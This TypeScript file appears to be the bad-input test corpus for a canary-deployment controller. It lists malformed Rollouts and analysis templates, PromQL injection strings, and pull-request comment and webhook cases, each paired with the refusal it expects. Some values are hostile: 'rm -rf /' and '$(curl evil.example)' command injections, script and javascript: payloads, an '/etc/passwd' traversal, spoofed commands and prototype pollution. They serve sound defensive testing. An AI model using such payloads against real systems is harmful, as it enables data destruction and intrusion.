/**
 * The bad-input corpus of the reliability suite: hostile or malformed Rollouts, AnalysisTemplates,
 * PromQL arg values, pull-request comments and webhook deliveries, each with what must come of
 * it — an error that names the field or arg, or a documented refusal.
 */

type Json = Record<string, any>;

export interface RolloutCase {
  name: string;
  /** Changes a valid Rollout (named after the case) into the bad one. */
  mutate: (r: Json) => void;
  /** What the error (from the API server, or the Rollout's Invalid status) must say. */
  error: RegExp;
}

const steps = (r: Json): Json[] => r.spec.strategy.canary.steps;

export const ROLLOUTS: RolloutCase[] = [
  { name: 'no steps', mutate: (r) => delete r.spec.strategy.canary.steps, error: /steps/ },
  { name: 'empty steps', mutate: (r) => (r.spec.strategy.canary.steps = []), error: /steps/ },
  { name: 'weight above 100', mutate: (r) => (steps(r)[0]!.setWeight = 150), error: /setWeight/ },
  { name: 'negative weight', mutate: (r) => (steps(r)[0]!.setWeight = -5), error: /setWeight/ },
  { name: 'weight as a string', mutate: (r) => (steps(r)[0]!.setWeight = '10'), error: /setWeight/ },
  { name: 'fractional weight', mutate: (r) => (steps(r)[0]!.setWeight = 10.5), error: /setWeight/ },
  {
    name: 'pause duration not a duration',
    mutate: (r) => (r.spec.strategy.canary.steps = [{ setWeight: 10 }, { pause: { duration: 'forever' } }]),
    error: /duration/,
  },
  {
    name: 'pause duration negative',
    mutate: (r) => (r.spec.strategy.canary.steps = [{ setWeight: 10 }, { pause: { duration: '-5s' } }]),
    error: /duration/,
  },
  {
    name: 'a step with two kinds',
    mutate: (r) => (r.spec.strategy.canary.steps = [{ setWeight: 10, pause: {} }]),
    error: /steps/,
  },
  { name: 'an empty step', mutate: (r) => (r.spec.strategy.canary.steps = [{}]), error: /steps/ },
  {
    name: 'a step of an unknown kind',
    mutate: (r) => (r.spec.strategy.canary.steps = [{ setWeight: 10 }, { experiment: {} }]),
    error: /steps/,
  },
  { name: 'no targetRef', mutate: (r) => delete r.spec.targetRef, error: /targetRef/ },
  { name: 'targetRef without a name', mutate: (r) => delete r.spec.targetRef.name, error: /targetRef/ },
  { name: 'targetRef to a StatefulSet', mutate: (r) => (r.spec.targetRef.kind = 'StatefulSet'), error: /kind/ },
  { name: 'targetRef to a missing Deployment', mutate: (r) => (r.spec.targetRef.name = 'nowhere'), error: /nowhere/ },
  { name: 'no service', mutate: (r) => delete r.spec.service, error: /service/ },
  { name: 'service port 0', mutate: (r) => (r.spec.service.port = 0), error: /port/ },
  { name: 'service port above 65535', mutate: (r) => (r.spec.service.port = 70_000), error: /port/ },
  {
    name: 'service name with capitals and spaces',
    mutate: (r) => (r.spec.service.name = 'My Service'),
    error: /service/,
  },
  { name: 'service timeout not a duration', mutate: (r) => (r.spec.service.timeout = 'soon'), error: /timeout/ },
  { name: 'negative retries', mutate: (r) => (r.spec.service.retries = { attempts: -1 }), error: /attempts/ },
  {
    name: 'negative progress deadline',
    mutate: (r) => (r.spec.progressDeadlineSeconds = -1),
    error: /progressDeadlineSeconds/,
  },
  {
    name: 'progress deadline as text',
    mutate: (r) => (r.spec.progressDeadlineSeconds = 'ten minutes'),
    error: /progressDeadlineSeconds/,
  },
  {
    name: 'analysis without templates',
    mutate: (r) => (r.spec.strategy.canary.analysis = { templates: [] }),
    error: /templates/,
  },
  {
    name: 'analysis of a missing template',
    mutate: (r) => (r.spec.strategy.canary.analysis = { templates: [{ name: 'no-such-template' }] }),
    error: /no-such-template/,
  },
  {
    name: 'analysis template name not a DNS name',
    mutate: (r) => (r.spec.strategy.canary.analysis = { templates: [{ name: 'Bad_Name!' }] }),
    error: /name/,
  },
  {
    name: 'analysis arg with an invalid name',
    mutate: (r) =>
      (r.spec.strategy.canary.analysis = {
        templates: [{ name: 'corpus-error-rate' }],
        args: [{ name: 'bad name', value: '1' }],
      }),
    error: /name/,
  },
  {
    name: 'analysis arg without a value',
    mutate: (r) =>
      (r.spec.strategy.canary.analysis = {
        templates: [{ name: 'corpus-error-rate' }],
        args: [{ name: 'maxErrorRate' }],
      }),
    error: /value/,
  },
  {
    name: 'analysis arg given twice',
    mutate: (r) =>
      (r.spec.strategy.canary.analysis = {
        templates: [{ name: 'corpus-error-rate' }],
        args: [
          { name: 'maxErrorRate', value: '1' },
          { name: 'maxErrorRate', value: '2' },
        ],
      }),
    error: /maxErrorRate|args/,
  },
  {
    name: 'analysis arg the template does not declare',
    mutate: (r) =>
      (r.spec.strategy.canary.analysis = {
        templates: [{ name: 'corpus-error-rate' }],
        args: [{ name: 'unheardOf', value: '1' }],
      }),
    error: /unheardOf/,
  },
  {
    name: 'a required arg left out',
    mutate: (r) => (r.spec.strategy.canary.analysis = { templates: [{ name: 'corpus-needs-arg' }] }),
    error: /threshold/,
  },
  {
    name: 'an arg value with a quote break-out',
    mutate: (r) =>
      (r.spec.strategy.canary.analysis = {
        templates: [{ name: 'corpus-needs-arg' }],
        args: [{ name: 'threshold', value: '1) or vector(1' }],
      }),
    error: /threshold/,
  },
  {
    name: 'an arg value of 2,000 characters',
    mutate: (r) =>
      (r.spec.strategy.canary.analysis = {
        templates: [{ name: 'corpus-error-rate' }],
        args: [{ name: 'maxErrorRate', value: '9'.repeat(2000) }],
      }),
    error: /value/,
  },
  {
    name: 'background analysis starting after the last step',
    mutate: (r) => (r.spec.strategy.canary.analysis = { templates: [{ name: 'corpus-error-rate' }], startingStep: 99 }),
    error: /startingStep/,
  },
  {
    name: 'schedule with a bad cron',
    mutate: (r) => (r.spec.schedule = { allow: [{ cron: 'every day at noon', duration: '1h' }] }),
    error: /cron/,
  },
  {
    name: 'schedule with an unknown time zone',
    mutate: (r) =>
      (r.spec.schedule = { timeZone: 'Mars/Olympus_Mons', allow: [{ cron: '0 9 * * 1-5', duration: '8h' }] }),
    error: /Mars\/Olympus_Mons|timeZone/,
  },
  {
    name: 'schedule window with cron but no duration',
    mutate: (r) => (r.spec.schedule = { allow: [{ cron: '0 9 * * *' }] }),
    error: /duration/,
  },
  {
    name: 'schedule window ending before it starts',
    mutate: (r) => (r.spec.schedule = { allow: [{ start: '2026-12-02T00:00:00Z', end: '2026-12-01T00:00:00Z' }] }),
    error: /end/,
  },
  { name: 'slack channel empty', mutate: (r) => (r.spec.notifications = { slack: { channel: '' } }), error: /channel/ },
  {
    name: 'github repository not owner/name',
    mutate: (r) => (r.spec.notifications = { github: { repository: 'just-a-name' } }),
    error: /repository/,
  },
  { name: 'a spec that is a string', mutate: (r) => (r.spec = 'canary please'), error: /spec/ },
  { name: 'strategy without canary', mutate: (r) => (r.spec.strategy = {}), error: /canary/ },
  { name: 'steps as an object', mutate: (r) => (r.spec.strategy.canary.steps = { setWeight: 10 }), error: /steps/ },
  {
    name: '2,000 steps',
    mutate: (r) => (r.spec.strategy.canary.steps = Array.from({ length: 2000 }, () => ({ setWeight: 10 }))),
    error: /steps/,
  },
];

/** A template a case installs (by name), to be used by the Rollouts' analysis. */
export const TEMPLATES: Json[] = [
  {
    apiVersion: 'sluice.dev/v1alpha1',
    kind: 'AnalysisTemplate',
    metadata: { name: 'corpus-error-rate' },
    spec: {
      args: [{ name: 'maxErrorRate', value: '0.01' }],
      metrics: [
        {
          name: 'errors',
          query:
            'sum(rate(istio_requests_total{destination_workload="{{ args.workload }}", response_code=~"5.."}[1m]))',
          thresholds: { max: '{{ args.maxErrorRate }}' },
        },
      ],
    },
  },
  {
    apiVersion: 'sluice.dev/v1alpha1',
    kind: 'AnalysisTemplate',
    metadata: { name: 'corpus-needs-arg' },
    spec: {
      args: [{ name: 'threshold' }],
      metrics: [
        {
          name: 'errors',
          query: 'sum(rate(istio_requests_total{destination_workload="{{ args.workload }}"}[1m]))',
          thresholds: { max: '{{ args.threshold }}' },
        },
      ],
    },
  },
];

export interface TemplateCase {
  name: string;
  /** The bad template (named after the case); a Rollout uses it in its background analysis. */
  spec: Json;
  error: RegExp;
}

const metric = (m: Json): Json => ({
  name: 'm',
  query: 'sum(rate(istio_requests_total[1m]))',
  thresholds: { max: '1' },
  ...m,
});

export const TEMPLATE_CASES: TemplateCase[] = [
  { name: 'no metrics', spec: { metrics: [] }, error: /metrics/ },
  { name: 'broken PromQL', spec: { metrics: [metric({ query: 'sum(rate(http_requests_total[1m]' })] }, error: /query/ },
  { name: 'PromQL with a stray word', spec: { metrics: [metric({ query: 'sum rate(x[1m])' })] }, error: /query/ },
  {
    name: 'query of 20,000 characters',
    spec: { metrics: [metric({ query: `sum(${'x + '.repeat(5000)}x)` })] },
    error: /query/,
  },
  {
    name: 'threshold not a number',
    spec: { metrics: [metric({ thresholds: { max: 'lots' } })] },
    error: /max|threshold/,
  },
  { name: 'min above max', spec: { metrics: [metric({ thresholds: { min: '5', max: '1' } })] }, error: /min|max/ },
  {
    name: 'undeclared arg in a query',
    spec: { metrics: [metric({ query: 'sum(rate(x{job="{{ args.undeclared }}"}[1m]))' })] },
    error: /undeclared/,
  },
  {
    name: 'placeholder without args.',
    spec: { metrics: [metric({ query: 'sum(rate(x{job="{{ job }}"}[1m]))' })] },
    error: /placeholder|\{\{/,
  },
  { name: 'interval not a duration', spec: { metrics: [metric({ interval: 'often' })] }, error: /interval/ },
  { name: 'negative failure limit', spec: { metrics: [metric({ failureLimit: -1 })] }, error: /failureLimit/ },
  { name: 'duplicate metric names', spec: { metrics: [metric({}), metric({})] }, error: /m|name/ },
  {
    name: 'Prometheus address not a URL',
    spec: { prometheus: { address: 'prometheus:9090; rm -rf /' }, metrics: [metric({})] },
    error: /address/,
  },
  {
    name: 'unknown onConsecutiveErrors',
    spec: { metrics: [metric({ onConsecutiveErrors: 'Explode' })] },
    error: /onConsecutiveErrors/,
  },
  {
    name: 'arg shadowing a built-in',
    spec: { args: [{ name: 'namespace', value: 'kube-system' }], metrics: [metric({})] },
    error: /namespace/,
  },
];

/** Hostile values for an arg used inside a label matcher's string: each is escaped, or refused naming the arg. */
export const STRING_ARGS: string[] = [
  '"} or vector(1) or {a="',
  "'} or vector(1) #",
  '\\"} or up{x="',
  'a"}[5m])) or vector(1) or sum(rate(x{y="',
  '") or on() vector(1) #',
  'line\nbreak',
  'tab\there',
  'carriage\rreturn',
  'null\u0000byte',
  'bell\u0007',
  '`backtick`',
  '{{ args.other }}',
  '}}{{',
  '.*',
  '(a|b)+$',
  '\\',
  '\\\\"',
  'ünïcödé ✓',
  '\ud800 lone surrogate',
  '# comment',
  ' or vector(1)',
  'x'.repeat(1024),
];

/** Hostile values for an arg used outside any string (a threshold or a range): numbers and durations only. */
export const BARE_ARGS: string[] = [
  '1 or vector(1)',
  '1) or (vector(1)',
  '5m] offset 1h',
  '1; drop',
  'NaN or 1',
  '0x10 + 1',
  '1e400 or 1',
  '30s]) or sum(up[5m',
];

export interface CommentCase {
  body: unknown;
  /** What parsing makes of it. */
  kind: 'none' | 'unknown' | 'command';
}

export const COMMENTS: CommentCase[] = [
  { body: '/sluice promote; rm -rf /', kind: 'unknown' },
  { body: '/sluice $(curl evil.example)', kind: 'unknown' },
  { body: '/sluice `id`', kind: 'unknown' },
  { body: '/sluice <script>alert(1)</script>', kind: 'unknown' },
  { body: '/sluice abort @everyone <!channel> **bold** [link](javascript:alert(1))', kind: 'command' },
  { body: `/sluice abort ${'x'.repeat(100_000)}`, kind: 'command' },
  { body: `/sluice ${'promote '.repeat(10_000)}`, kind: 'command' },
  { body: '/sluice\u0000promote', kind: 'none' },
  { body: '/sluice\u202epromote', kind: 'none' },
  { body: '/ѕluice promote', kind: 'none' },
  { body: '> /sluice promote', kind: 'none' },
  { body: '```\n/sluice promote\n```', kind: 'none' },
  { body: 'please\n/sluice promote', kind: 'none' },
  { body: '', kind: 'none' },
  { body: null, kind: 'none' },
  { body: 42, kind: 'none' },
  { body: { toString: 'x' }, kind: 'none' },
  { body: '/sluice PROMOTE ../../etc/passwd', kind: 'command' },
  { body: '/sluice abort demo/other-namespace-rollout', kind: 'command' },
  { body: '/sluice deploy-everything', kind: 'unknown' },
];

export interface WebhookCase {
  name: string;
  /** The body as sent; signed with the right secret unless `signature` says otherwise. */
  raw: string;
  headers?: Record<string, string | undefined>;
  signature?: 'wrong' | 'none' | 'malformed';
  status: number;
  message: RegExp;
}

export const WEBHOOKS: WebhookCase[] = [
  { name: 'unsigned', raw: '{}', signature: 'none', status: 401, message: /X-Hub-Signature-256/ },
  { name: 'signed with another secret', raw: '{}', signature: 'wrong', status: 401, message: /does not match/ },
  { name: 'malformed signature', raw: '{}', signature: 'malformed', status: 401, message: /X-Hub-Signature-256/ },
  {
    name: 'no delivery id',
    raw: '{}',
    headers: { 'x-github-delivery': undefined },
    status: 400,
    message: /X-GitHub-Delivery/,
  },
  {
    name: 'a delivery id of 1,000 characters',
    raw: '{}',
    headers: { 'x-github-delivery': 'd'.repeat(1000) },
    status: 400,
    message: /X-GitHub-Delivery/,
  },
  { name: 'not JSON', raw: '{"action": "created",', status: 400, message: /not JSON/ },
  { name: 'JSON but a string', raw: '"hello"', status: 202, message: /not an issue_comment payload/ },
  { name: 'JSON null', raw: 'null', status: 202, message: /not an issue_comment payload/ },
  {
    name: 'comment without a user',
    raw: JSON.stringify({
      action: 'created',
      issue: { number: 1, pull_request: {} },
      comment: { id: 1, body: '/sluice abort' },
      repository: { full_name: 'o/r' },
    }),
    status: 202,
    message: /not an issue_comment payload/,
  },
  {
    name: 'issue number as a string',
    raw: JSON.stringify({
      action: 'created',
      issue: { number: '1', pull_request: {} },
      comment: {
        id: 1,
        body: '/sluice abort',
        user: { login: 'mallory', type: 'User' },
        created_at: new Date().toISOString(),
      },
      repository: { full_name: 'o/r' },
    }),
    status: 202,
    message: /issue number/,
  },
  {
    name: 'negative comment id',
    raw: JSON.stringify({
      action: 'created',
      issue: { number: 1, pull_request: {} },
      comment: {
        id: -5,
        body: '/sluice abort',
        user: { login: 'mallory', type: 'User' },
        created_at: new Date().toISOString(),
      },
      repository: { full_name: 'o/r' },
    }),
    status: 202,
    message: /comment id/,
  },
  {
    name: 'a comment from last year',
    raw: JSON.stringify({
      action: 'created',
      issue: { number: 1, pull_request: {} },
      comment: {
        id: 7,
        body: '/sluice abort',
        user: { login: 'mallory', type: 'User' },
        created_at: '2025-11-26T00:00:00Z',
      },
      repository: { full_name: 'o/r' },
    }),
    status: 202,
    message: /not acted on/,
  },
  {
    name: 'an edited comment',
    raw: JSON.stringify({
      action: 'edited',
      issue: { number: 1, pull_request: {} },
      comment: { id: 8, body: '/sluice abort', user: { login: 'mallory', type: 'User' } },
      repository: { full_name: 'o/r' },
    }),
    status: 202,
    message: /edited is not acted on/,
  },
  {
    name: 'a bot impersonating a command',
    raw: JSON.stringify({
      action: 'created',
      issue: { number: 1, pull_request: {} },
      comment: { id: 9, body: '/sluice promote', user: { login: 'evil[bot]', type: 'Bot' } },
      repository: { full_name: 'o/r' },
    }),
    status: 202,
    message: /bot/,
  },
  {
    name: 'an unknown event',
    raw: '{}',
    headers: { 'x-github-event': 'workflow_run' },
    status: 202,
    message: /ignored/,
  },
  {
    name: 'prototype pollution',
    raw: '{"__proto__": {"polluted": true}, "constructor": {"prototype": {"polluted": true}}}',
    status: 202,
    message: /not an issue_comment payload/,
  },
];
